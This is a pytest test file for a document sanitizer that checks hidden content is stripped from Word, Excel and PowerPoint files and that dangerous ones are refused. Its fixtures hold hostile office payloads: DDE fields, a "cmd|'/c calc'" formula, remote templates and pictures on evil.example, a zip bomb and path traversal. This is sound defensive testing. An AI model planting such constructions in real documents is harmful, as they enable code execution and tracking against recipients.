"""What office files have in them that nobody means to publish: taken out, or refused.

Each row of a table is a file with a canary where the row says. Whatever is taken out is in none of
the bytes that are published, however they are packed.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from typing import Final

import pytest
from PIL import Image

from hub.documents.attachments import archives, office_texts
from tests.helpers.attached import A, P, R, W, X, docx, package, pdf, photo, relation, screenshot
from tests.helpers.planted import (
    CANARY,
    OUTSIDE,
    PATHS,
    VML,
    WORDS,
    cleaned,
    diagram,
    excel,
    only_that_is_taken_out,
    refused,
    slides,
    tells,
    word,
)

ACTIVE: Final = "word/document.xml"
EMPTY: Final = '<a xmlns="u"/>'


def settings(within: str, *leads: str) -> bytes:
    """A Word file with this among its settings."""
    path = "word/settings.xml"
    parts = {path: f"<w:settings {W} {R}>{within}</w:settings>"}
    return package(
        "word/document.xml",
        {"word/document.xml": f"<w:document {W}><w:t>{WORDS}</w:t></w:document>", **parts},
        {"word/document.xml": [relation("rId1", "settings", "settings.xml")], path: leads},
    )


def field(*pieces: str) -> str:
    """A field whose instruction is written in pieces, and that shows the words."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"{mark('begin')}{said}{mark('separate')}<w:r><w:t>{WORDS}</w:t></w:r>{mark('end')}"


def link(target: str, more: str = OUTSIDE) -> bytes:
    """A Word file with a link."""
    shown = f'<w:hyperlink r:id="rId9"><w:r><w:t>{WORDS}</w:t></w:r></w:hyperlink>'
    return word(shown, None, relation("rId9", "hyperlink", target, more))


def shown_picture(data: bytes, name: str = "image9.bin", blip: str = "") -> bytes:
    """A Word file with a picture of any kind."""
    body = f'<w:drawing><a:blip r:embed="rId9">{blip}</a:blip></w:drawing>'
    return word(body, {f"word/media/{name}": data}, relation("rId9", "image", f"media/{name}"))


def tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "TIFF", description=CANARY, software=CANARY)
    return out.getvalue()


def emf() -> bytes:
    """A drawing with a title, a remark, and a photograph within."""
    title = f"Word\0{CANARY}\0\0".encode("utf-16-le")
    title += bytes(-len(title) % 4)
    head = struct.pack("<II", 1, 108 + len(title)) + bytes(32) + b" EMF" + bytes(16)
    head += struct.pack("<II", len(title) // 2, 108) + bytes(40) + title

    def remark(data: bytes) -> bytes:
        data += bytes(-len(data) % 4)
        return struct.pack("<III", 70, 12 + len(data), len(data)) + data

    remarks = remark(CANARY.encode()) + remark(
        b"EMF+" + photo(CANARY).replace(CANARY.encode(), b"", 0)
    )
    return head + remarks + struct.pack("<IIIII", 14, 20, 0, 0, 20)


def wmf() -> bytes:
    """A drawing with a remark."""
    said = CANARY.encode() + b"\0"
    escape = struct.pack("<IHHH", 5 + len(said) // 2, 0x0626, 15, len(said)) + said
    return b"\x01\0\x09\0" + bytes(14) + escape + struct.pack("<IH", 3, 0)


def svg(within: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg">{within}</svg>'


BLIP_SVG = '<a:extLst><a:ext uri="u"><x:svgBlip r:embed="rId8"/></a:ext></a:extLst>'
INK = '<ink xmlns="http://www.w3.org/2003/InkML"/>'
HIDING: Final = (
    f'ADDIN ZOTERO_ITEM {{"title":"{CANARY}"}}', f"PRIVATE {CANARY}", f'SET a "{CANARY}"',
    f'IF 1 = 1 "x" "{CANARY}"', f'XE "{CANARY}"', f'TC "{CANARY}"', f'ASK a "{CANARY}"',
    rf'FILLIN "Who?" \d "{CANARY}"', rf'ADDRESSBLOCK \f "{CANARY}"',
)  # fmt: skip
"""Fields that hold words which no page shows."""


def nested() -> str:
    """A field in whose instruction another one shows something."""
    within = field("MERGEFIELD x").replace(WORDS, CANARY)
    return field("IF ").replace("</w:instrText></w:r>", f"</w:instrText></w:r>{within}", 1)


def charted(within: str, shown: str = '<c:chart xmlns:c="c" r:id="rId9"/>') -> bytes:
    part = f'<c:chartSpace xmlns:c="c">{within}</c:chartSpace>'
    return word(shown, {"word/charts/c.xml": part}, relation("rId9", "chart", "charts/c.xml"))


def topped(kind: str | None, more: str = "", settings: str = "") -> bytes:
    """A Word file with words at the top of pages of this kind."""
    leads = f'<w:headerReference w:type="{kind}" r:id="rId9"/>' if kind else ""
    part = f"<w:hdr {W}><w:p><w:t>{CANARY}</w:t></w:p></w:hdr>"
    return word(
        f"<w:sectPr>{leads}{more}</w:sectPr>",
        {"word/header1.xml": part, "word/settings.xml": f"<w:settings {W}>{settings}</w:settings>"},
        relation("rId9", "header", "header1.xml"),
        relation("rId8", "settings", "settings.xml"),
    )


def noted(kind: str, *identities: str) -> bytes:
    """A Word file with two notes, of which the text refers to these."""
    refers = "".join(f'<w:{kind}Reference w:id="{one}"/>' for one in identities)
    notes = "".join(
        f'<w:{kind} w:id="{one}"><w:p><w:r><w:t>{said}</w:t></w:r></w:p></w:{kind}>'
        for one, said in {"2": WORDS, "3": CANARY}.items()
    )
    line = f'<w:{kind} w:type="separator" w:id="-1"><w:p/></w:{kind}>'
    part = {f"word/{kind}s.xml": f"<w:{kind}s {W}>{line}{notes}</w:{kind}s>"}
    return word(
        f"<w:p><w:r>{refers}</w:r></w:p>", part, relation("rId9", f"{kind}s", f"{kind}s.xml")
    )


WORD: dict[str, Callable[[], bytes]] = {
    **{f"link to {how}": (lambda to=to: link(to)) for how, to in PATHS.items()},
    "link without a mode": lambda: link(rf"C:\{CANARY}", ""),
    "link in other quotes": lambda: package(
        "word/document.xml",
        {"word/document.xml": f"<w:document {W} {R}><w:hyperlink r:id='r'/><w:t>{WORDS}</w:t>"
         "</w:document>"},
        {"word/document.xml": [
            "<Relationship Target = 'file:///" + CANARY + "'\n Id='r' TargetMode = 'External'"
            " Type='a/hyperlink'/>"]}),
    "attached template": lambda: settings(
        '<w:attachedTemplate r:id="rId7"/>',
        relation("rId7", "attachedTemplate", f"https://evil.example/{CANARY}.dotm", OUTSIDE)),
    "mail merge": lambda: settings(
        f'<w:mailMerge><w:query w:val="{CANARY}"/><w:dataSource r:id="rId7"/></w:mailMerge>',
        relation("rId7", "mailMergeSource", f"file:///{CANARY}", OUTSIDE)),
    "variables": lambda: settings(
        f'<w:docVars><w:docVar w:name="a" w:val="{CANARY}"/></w:docVars>'),
    "label": lambda: word("", {"docMetadata/LabelInfo.xml": f"<a>{CANARY}</a>"}),
    "custom part": lambda: word("", {"customXml/item1.xml": f"<a>{CANARY}</a>"}),
    "building blocks": lambda: word(
        "", {"word/glossary/document.xml": f"<a>{CANARY}</a>"},
        relation("rId9", "glossaryDocument", "glossary/document.xml")),
    "unknown part": lambda: word(
        "", {"word/new.bin": CANARY.encode()}, relation("rId9", "newThing", "new.bin")),
    "part to which nothing leads": lambda: word("", {"word/media/a.exe": b"MZ" + CANARY.encode()}),
    "deleted comments": lambda: word(
        "", {"word/comments.xml": f"<w:comments {W}><!-- {CANARY} --></w:comments>"},
        relation("rId9", "comments", "comments.xml")),
    "remark in the XML": lambda: word(f"<!-- {CANARY} --><?x {CANARY}?>"),
    "path in a picture's description": lambda: word(
        rf'<x:cNvPr descr="C:\{CANARY}" name="\\a\{CANARY}"/>'),
    "DDE": lambda: word(field("DDE", f'AUTO excel "{CANARY}"')),
    "simple DDE": lambda: word(f'<w:fldSimple w:instr="ddeauto x {CANARY}"><w:r/></w:fldSimple>'),
    "remote picture field": lambda: word(field(f'INCLUDEPICTURE "https://evil.example/{CANARY}"')),
    "link as a field": lambda: word(field(rf'HYPERLINK "file:///C:\\{CANARY}" \o "x"')),
    "author as a field": lambda: word(field(f"AUTHOR {CANARY}")),
    "stray instruction": lambda: word(f"<w:instrText>{CANARY}</w:instrText>"),
    **{f"field {said.split()[0]}": (lambda said=said: word(field(said))) for said in HIDING},
    "field within another": lambda: word(nested()),
    "what an add-in keeps in a field": lambda: word(field("PAGE").replace(
        '="begin"/>', f'="begin"><w:fldData>{CANARY}</w:fldData></w:fldChar>')),
    "who may change a part": lambda: word(
        f'<w:permStart w:id="1" w:ed="{CANARY}@school.example"/>'),
    "a drawing once more": lambda: word(f'<v:shape o:gfxdata="{CANARY}"/>'),
    "smart tag": lambda: word(
        f'<w:smartTag><w:smartTagPr><w:attr w:val="{CANARY}"/></w:smartTagPr></w:smartTag>'),
    "series that was filtered out": lambda: charted(
        '<c:ext uri="u"><q:filteredBarSeries xmlns:q="q">'
        f"<c:v>{CANARY}</c:v></q:filteredBarSeries></c:ext>"),
    **{f"workbook in a chart's reference, {how}": (lambda to=to: charted(f"<c:f>{to}</c:f>"))
       for how, to in {
           "plain": f"[{CANARY}.xlsx]Sheet1!$A$1",
           "in quotes": f"'[My {CANARY}.xlsx]A &amp; B'!$A$1",
           "with its place": rf"'C:\Ada''s {CANARY}\[{CANARY}.xlsx]Sheet 1'!$A$1:$B$2"}.items()},
    "chart that nothing shows": lambda: charted(f"<c:v>{CANARY}</c:v>", shown=""),
    **{f"{kind} to which nothing refers": (lambda kind=kind: noted(kind, "2"))
       for kind in ("footnote", "endnote")},
    "diagram that nothing shows": lambda: diagram({"a": CANARY}, "", shown=False),
    "drawing of a diagram without one": lambda: diagram({"a": WORDS}, drawn=CANARY, leads=False),
    "words that hang on nothing in a diagram": lambda: diagram(
        {"a": WORDS, "b": CANARY}, hanging="a"),
    "top of a first page that is none": lambda: topped("first"),
    "foot of even pages where there are none": lambda: topped("even"),
    "top of pages that nothing asks for": lambda: topped(None),
    "photograph": lambda: shown_picture(photo(CANARY)),
    "screenshot": lambda: shown_picture(screenshot(CANARY)),
    "WebP": lambda: shown_picture(photo(CANARY, form="WEBP")),
    "photograph without an end": lambda: shown_picture(photo(CANARY)[:-2]),
    "TIFF": lambda: shown_picture(tiff()),
    "EMF": lambda: shown_picture(emf()),
    "EMF, packed": lambda: shown_picture(gzip.compress(emf())),
    "WMF": lambda: shown_picture(wmf()),
    "drawing beside its picture": lambda: word(
        f'<w:drawing><a:blip r:embed="rId1">{BLIP_SVG}</a:blip></w:drawing>',
        {"word/media/image2.svg": svg(f"<script>{CANARY}</script>")},
        relation("rId8", "image", "media/image2.svg")),
    "what Google adds": lambda: word(
        '<x:extLst><x:ext uri="Google"><x:data r:id="rId8"/></x:ext></x:extLst>',
        {"word/metadata": CANARY.encode()}, relation("rId8", "metadata", "metadata")),
    "model in three dimensions": lambda: word(
        '<x:AlternateContent><x:Choice Requires="x"><x:model3d r:embed="rId8"/></x:Choice>'
        '<x:Fallback><a:blip r:embed="rId1"/></x:Fallback></x:AlternateContent>',
        {"word/media/a.glb": CANARY.encode()}, relation("rId8", "model3d", "media/a.glb")),
    "picture as a PDF": lambda: shown_picture(pdf(text=CANARY)),
    "picture that is elsewhere as well": lambda: word(
        '<w:drawing><a:blip r:embed="rId1" r:link="rId8"/></w:drawing>'
        '<v:imagedata r:id="rId1" r:href="rId8" o:href="cid:x" src="file:///x"/>', None,
        relation("rId8", "image", f"https://evil.example/{CANARY}", OUTSIDE)),
    "workbook behind a chart": lambda: package(
        "word/document.xml",
        {"word/document.xml": f"<w:document {W}><w:t>{WORDS}</w:t></w:document>",
         "word/charts/c.xml": f'<c:chart xmlns:c="c" {R}><c:externalData r:id="r1"/></c:chart>',
         "word/embeddings/a.xlsx": b"PK" + CANARY.encode()},
        {"word/document.xml": [relation("rId9", "chart", "charts/c.xml")],
         "word/charts/c.xml": [relation("r1", "package", "../embeddings/a.xlsx")]}),
    "in two bytes a letter": lambda: docx(parts={ACTIVE: (
        f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}><!-- {CANARY} -->'
        f"<w:t>{WORDS}</w:t></w:document>").encode("utf-16")}),
}  # fmt: skip
"""What is taken out of Word files."""

WORD_REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "object": (lambda: word(
        '<o:OLEObject r:id="rId9"/>', {"word/Embeddings/OLEobject1.bin": b"x"},
        relation("rId9", "oleObject", "Embeddings/OLEobject1.bin")), "other files"),
    "workbook": (lambda: word(
        '<o:OLEObject r:id="rId9"/>', {"word/EMBEDDINGS/a.xlsx": b"PK"},
        relation("rId9", "package", "EMBEDDINGS/a.xlsx")), "other files"),
    "linked object": (lambda: word(
        '<o:OLEObject r:id="rId9"/>', None, relation("rId9", "oleObject", "file:///x", OUTSIDE)),
        "other files"),
    "another text": (lambda: word(
        '<w:altChunk r:id="rId9"/>', {"word/a.html": "<html>"},
        relation("rId9", "aFChunk", "a.html")), "other files"),
    "remote picture": (lambda: word(
        '<a:blip r:link="rId9"/>', None,
        relation("rId9", "image", "https://evil.example/a.png", OUTSIDE)), "lies elsewhere"),
    "program as a picture": (lambda: shown_picture(b"MZ\x90", "a.exe"), "cannot look into"),
    "drawing alone": (lambda: shown_picture(svg("").encode(), "a.svg"), "cannot look into"),
    "damaged picture": (lambda: shown_picture(screenshot()[:-40]), "cannot look into"),
    "control": (lambda: word(
        '<w:control r:id="rId9"/>', {"word/x/a.xml": EMPTY},
        relation("rId9", "control", "x/a.xml")), "macros"),
    "film": (lambda: word(
        '<a:videoFile r:link="rId9"/>', {"word/media/a.mp4": b"x"},
        relation("rId9", "video", "media/a.mp4")), "a film"),
    "addition without another form": (lambda: word(
        '<x:AlternateContent><x:Choice Requires="x"><x:model3d r:embed="rId8"/></x:Choice>'
        "</x:AlternateContent>", {"word/a.glb": b"x"}, relation("rId8", "model3d", "a.glb")),
        "does not know"),
    "unknown part that is shown": (lambda: word(
        '<x:new r:id="rId9"/>', {"word/new.xml": EMPTY}, relation("rId9", "newThing", "new.xml")),
        "does not know (`new.xml`)"),
    "deleted words": (lambda: word("<w:delText>x</w:delText>"), "tracked changes"),
    **{f"{mark} of nobody": (lambda mark=mark: word(
        f"<w:{mark}><w:r><w:t>x</w:t></w:r></w:{mark}>"), "tracked changes")
       for mark in ("ins", "del", "moveTo")},
    "format of nobody": (lambda: word("<w:r><w:rPr><w:rPrChange/></w:rPr></w:r>"), "tracked"),
    "macros by another name": (lambda: word(
        "", {"word/a.bin": b"x"}, relation("rId9", "vbaProject", "a.bin")), "macros"),
    "document type in two bytes": (lambda: docx(parts={ACTIVE:
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><w:document {W}/>'
        .encode("utf-16")}), "damaged"),
    "document type in UTF-7": (lambda: docx(parts={ACTIVE:
        f'<?xml version="1.0" encoding="UTF-7"?><w:document {W}/>'}), "damaged"),
    "far too deep": (lambda: docx(parts={ACTIVE: "<a>" * 2000 + "</a>" * 2000}), "damaged"),
    "bomb": (lambda: docx(parts={"word/a.bin": bytes(archives.MAX_UNPACKED)}), "far larger"),
    "too many parts": (lambda: docx(parts={f"word/{n}": b"" for n in range(archives.MAX_PARTS)}),
        "5,000 at most"),
    "way out of the file": (lambda: docx(parts={"../evil.xml": EMPTY}), "something else"),
}  # fmt: skip
"""What makes Word files be refused, and a part of what is said."""


def noted_before(kind: str = "Note", *, shown: bool = True) -> bytes:
    """A workbook with a drawing of the old kind."""
    box = f'<c:ClientData xmlns:c="c" ObjectType="{kind}"/><v:textbox>{CANARY}</v:textbox>'
    part = f'<xml {VML}><v:shape style="visibility:hidden">{box}</v:shape></xml>'
    leads = [relation("r5", "vmlDrawing", "../drawings/v.vml")]
    within = '<sheetData><row><c t="inlineStr"><is><t>a</t></is></c></row></sheetData>'
    more = '<legacyDrawing r:id="r5"/>' if shown else ""
    return excel(within + more, parts={"xl/drawings/v.vml": part}, leads=leads)


EXCEL: dict[str, Callable[[], bytes]] = {
    "who is writing": lambda: excel(book=f'<fileSharing userName="{CANARY}"/>'),
    "where it lay": lambda: excel(book=rf'<q:absPath url="C:\{CANARY}\"/>'),
    "whose views": lambda: excel(
        book=f'<customWorkbookViews><customWorkbookView name="{CANARY}"/></customWorkbookViews>'),
    "scenarios": lambda: excel(f'<sheetData/><scenarios><scenario user="{CANARY}"/></scenarios>'),
    "printer": lambda: excel(
        '<sheetData/><pageSetup r:id="rId1"/>',
        parts={"xl/printerSettings/p1.bin": CANARY.encode("utf-16-le")},
        leads=[relation("rId1", "printerSettings", "../printerSettings/p1.bin")]),
    "with what": lambda: excel(book=f'<fileVersion appName="{CANARY}"/>'),
    "sheet that is in no list": lambda: excel(
        parts={"xl/worksheets/sheet9.xml": f"<worksheet {X}><a>{CANARY}</a></worksheet>"},
        book_leads=[relation("r9", "worksheet", "worksheets/sheet9.xml")]),
    "text that is in no cell": lambda: excel(
        '<sheetData><row><c t="s"><v>1</v></c></row></sheetData>',
        parts={"xl/sharedStrings.xml": f"<sst {X}><si><t>{CANARY}</t></si><si><t>{WORDS}</t></si>"
               f"<si><r><t>{CANARY}</t></r></si></sst>"},
        book_leads=[relation("r9", "sharedStrings", "sharedStrings.xml")]),
    "top of even and of first sheets": lambda: excel(
        '<sheetData/><headerFooter differentFirst="0"><oddHeader>a</oddHeader>'
        f"<evenHeader>{CANARY}</evenHeader><firstFooter>{CANARY}</firstFooter></headerFooter>"),
    "drawing of a note that was deleted": noted_before,
    "drawings that nothing shows": lambda: noted_before("a", shown=False),
    "chain and people": lambda: excel(
        parts={"xl/calcChain.xml": f"<calcChain {X}/>", "xl/persons/p.xml": f"<a>{CANARY}</a>"},
        book_leads=[relation("r2", "calcChain", "calcChain.xml"),
                    relation("r3", "person", "persons/p.xml")]),
}  # fmt: skip


def _part(kind: str, name: str, content: str = EMPTY) -> Callable[[], bytes]:
    return lambda: excel(parts={f"xl/{name}": content}, book_leads=[relation("r2", kind, name)])


EXCEL_REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "very hidden sheet": (
        lambda: excel(book='<sheets><sheet name="B" state="veryHidden"/></sheets>'), "very hidden"),
    "pivot table": (_part("pivotCacheDefinition", "pivotCache/a.xml"), "Paste Special, Values"),
    "another workbook": (_part("externalLink", "externalLinks/a.xml"), "Break Link"),
    "connection": (_part("connections", "connections.xml"), "data connection"),
    "model": (_part("powerPivotData", "model/item.data"), "data connection"),
    "stocks, and other records behind a cell": (_part(
        "rdRichValueStructure", "richData/rdrichvaluestructure.xml",
        '<rvStructures xmlns="u"><s t="_linkedentity2core"><k n="Price"/></s></rvStructures>'),
        "Paste Special, Values"),
    "table behind a cell": (_part("rdArray", "richData/rdarray.xml",
        '<arrayData xmlns="u"><a r="1" c="1"><v t="s">x</v></a></arrayData>'), "data types"),
    "old macros": (_part("xlMacrosheet", "macrosheets/a.xml"), "macros"),
    "shared": (_part("revisionHeaders", "revisions/a.xml"), "tracked changes"),
    "DDE": (lambda: excel("<sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData>"),
            "asks another program"),
    "from the web": (lambda: excel(book='<definedName>_xlfn.WEBSERVICE("https://e")</definedName>'),
                     "asks another program"),
}  # fmt: skip


def layouts() -> bytes:
    """A presentation with two masters, each with two layouts, and a slide of the first of them."""
    show = '<p:sldIdLst><p:sldId r:id="r9"/></p:sldIdLst>'
    lists = "".join(f'<p:sldMasterId r:id="r{n}"/>' for n in (1, 2))
    parts = {
        "ppt/presentation.xml": f"<p:presentation {P} {R}><p:sldMasterIdLst>{lists}"
        f"</p:sldMasterIdLst>{show}</p:presentation>",
        "ppt/slides/slide1.xml": f"<p:sld {P} {A}><a:t>{WORDS}</a:t></p:sld>",
    }
    leads = {
        "ppt/presentation.xml": [
            *(relation(f"r{n}", "slideMaster", f"slideMasters/m{n}.xml") for n in (1, 2)),
            relation("r9", "slide", "slides/slide1.xml"),
        ],
        "ppt/slides/slide1.xml": [relation("r1", "slideLayout", "../slideLayouts/l11.xml")],
    }
    for n in (1, 2):
        said = "".join(f'<p:sldLayoutId r:id="r{m}"/>' for m in (1, 2))
        words = WORDS if n == 1 else CANARY
        parts[f"ppt/slideMasters/m{n}.xml"] = (
            f"<p:sldMaster {P} {A} {R}><a:t>{words}</a:t>{said}</p:sldMaster>"
        )
        leads[f"ppt/slideMasters/m{n}.xml"] = [
            relation(f"r{m}", "slideLayout", f"../slideLayouts/l{n}{m}.xml") for m in (1, 2)
        ]
        for m in (1, 2):
            words = WORDS if n == m == 1 else CANARY
            parts[f"ppt/slideLayouts/l{n}{m}.xml"] = (
                f"<p:sldLayout {P} {A}><a:t>{words}</a:t></p:sldLayout>"
            )
            leads[f"ppt/slideLayouts/l{n}{m}.xml"] = [
                relation("r1", "slideMaster", f"../slideMasters/m{n}.xml")
            ]
    return package("ppt/presentation.xml", parts, leads)


SLIDES: dict[str, Callable[[], bytes]] = {
    "changes": lambda: slides(
        parts={"ppt/changesInfos/changesInfo1.xml": f"<a>{CANARY}</a>"},
        leads=[relation("r2", "changesInfo", "changesInfos/changesInfo1.xml")]),
    "authors": lambda: slides(parts={"ppt/authors.xml": f"<a>{CANARY}</a>"},
                              leads=[relation("r2", "authors", "authors.xml")]),
    "tags": lambda: slides(
        '<p:custDataLst><p:tags r:id="r2"/></p:custDataLst>',
        {"ppt/tags/tag1.xml": f"<a>{CANARY}</a>"}, [relation("r2", "tags", "tags/tag1.xml")]),
    "slide that was taken out": lambda: slides(
        parts={"ppt/slides/slide2.xml": f"<p:sld {P} {A}><a:t>{CANARY}</a:t></p:sld>"},
        leads=[relation("r2", "slide", "slides/slide2.xml")]),
    "slide to which only a link leads": lambda: package("ppt/presentation.xml", {
        "ppt/presentation.xml": (
            f'<p:presentation {P} {R}><p:sldIdLst><p:sldId r:id="r1"/></p:sldIdLst>'
            "</p:presentation>"),
        "ppt/slides/slide1.xml": (
            f'<p:sld {P} {A} {R}><a:hlinkClick r:id="r1" action="ppaction://hlinksldjump"/>'
            f"<a:t>{WORDS}</a:t></p:sld>"),
        "ppt/slides/slide2.xml": f"<p:sld {P} {A}><a:t>{CANARY}</a:t></p:sld>",
    }, {"ppt/presentation.xml": [relation("r1", "slide", "slides/slide1.xml")],
        "ppt/slides/slide1.xml": [relation("r1", "slide", "slide2.xml")]}),
    "layout and master of which no slide is made": layouts,
    "program behind a click": lambda: slides(slide=(
        f'<p:sld {P} {A}><a:hlinkClick action="ppaction://program?{CANARY}"/>'
        f"<a:t>{WORDS}</a:t></p:sld>")),
}  # fmt: skip


TAKEN_OUT = {
    f"{name}: {what}": (f"a.{name}", make)
    for name, table in {"docx": WORD, "xlsx": EXCEL, "pptx": SLIDES}.items()
    for what, make in table.items()
}
REFUSED = {
    f"{name}: {what}": (f"a.{name}", make, said)
    for name, table in {"docx": WORD_REFUSED, "xlsx": EXCEL_REFUSED}.items()
    for what, (make, said) in table.items()
}


@pytest.mark.parametrize("what", TAKEN_OUT)
def test_what_nobody_means_to_publish_is_taken_out(what: str) -> None:
    name, make = TAKEN_OUT[what]
    only_that_is_taken_out(name, make(), office_texts)


@pytest.mark.parametrize("what", REFUSED)
def test_what_cannot_be_taken_out_is_refused(what: str) -> None:
    name, make, said = REFUSED[what]
    assert said in refused(name, make())


def test_notes_to_which_the_text_refers_stay() -> None:
    for kind in ("footnote", "endnote"):
        made = cleaned("a.docx", noted(kind, "2", "3"))
        assert tells(made)
        assert b'"separator"' in unzipped(made)[f"word/{kind}s.xml"]


def test_the_top_of_pages_stays_where_there_are_such_pages() -> None:
    for shown in (
        topped("default"),
        topped("first", "<w:titlePg/>"),
        topped("even", settings="<w:evenAndOddHeaders/>"),
    ):
        assert tells(cleaned("a.docx", shown))


def test_a_picture_without_its_last_bytes_is_published_as_programs_show_it() -> None:
    whole, short = screenshot(CANARY), screenshot(CANARY)[:-12]
    made = cleaned("a.docx", shown_picture(short))
    assert unzipped(made) == unzipped(cleaned("a.docx", shown_picture(whole)))


def unzipped(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
